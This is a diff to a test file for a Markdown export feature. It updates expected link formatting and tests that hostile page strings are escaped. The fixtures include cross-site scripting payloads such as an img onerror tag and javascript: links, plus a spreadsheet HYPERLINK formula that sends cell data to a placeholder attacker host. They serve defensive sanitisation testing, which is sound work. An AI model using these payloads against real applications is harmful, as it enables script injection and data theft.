@@ -145,11 +145,11 @@ describe('Markdown export', () => {
     expect(nl).toContain('- **Published:** 2024-06-07 · **Language:** nl');
     expect(nl).toContain('- **Tags:** floods');
     expect(nl).toContain('> Voor het rapport');
-    expect(nl).toMatch(/### Organisations\n\n- Nationaal Crisiscentrum \(NCCN\)\n/);
+    expect(nl).toMatch(/### Organisations\n\n- Nationaal Crisiscentrum \(NCCN\) \(\d+ mentions?\)\n/);
     expect(nl).toContain('- Koen Schoeters — waarnemend directeur van het NCCN');
     expect(nl).toContain('- Protocol inzake Overstromingsrisico — 2023-10');
     expect(nl).toContain('- 2023-10 (relative) — vorig jaar oktober');
-    expect(nl).toContain('- [Nationaal Crisiscentrum](https://www.nccn.be/nl)');
+    expect(nl).toContain('- [Nationaal Crisiscentrum](<https://www.nccn.be/nl>)');
     const headings = [...nl.matchAll(/^### (.+)$/gm)].map((m) => m[1]);
     expect(headings).toEqual(['Summary', 'Organisations', 'People', 'Places', 'Agreements', 'Dates', 'Links']);
   });
@@ -157,14 +157,14 @@ describe('Markdown export', () => {
   it('escapes page strings and only links http(s)', () => {
     const md = toMarkdown([saved(hostileBrief())]);
     expect(md).not.toMatch(/(?<!\\)<(img|script|\/script|b )/); // every "<" from the page is escaped
-    expect(md).not.toMatch(/(?<!\\)\]\((?!https?:)/); // every real link's destination is http(s)
+    expect(md).not.toMatch(/(?<!\\)\]\((?!<https?:)/); // every real link's destination is http(s)
     expect(md).not.toContain('javascript:alert(1))');
     expect(md).toContain('\\<img src=x onerror=alert(1)\\>');
     expect(md).toContain('- click me\n'); // javascript: link kept as text only
     expect(md).toContain('- data\n');
     expect(md).toContain('- protocol-relative\n');
-    expect(md).toContain('(https://ok.example/a%28b%29c%20d)');
-    expect(md).toContain('[\\[x\\](javascript:alert(5))](https://ok.example/a%28b%29c%20d)');
+    expect(md).toContain('(<https://ok.example/a%28b%29c%20d>)');
+    expect(md).toContain('[\\[x\\](javascript:alert(5))](<https://ok.example/a%28b%29c%20d>)');
     expect(md).toContain('## \\=HYPERLINK("http://evil.example?x="\\&A1,"click") \\<img'); // a title is a heading's text, never markup
     expect(md).toContain('**Source:** \\| pipe \\| site');
   });
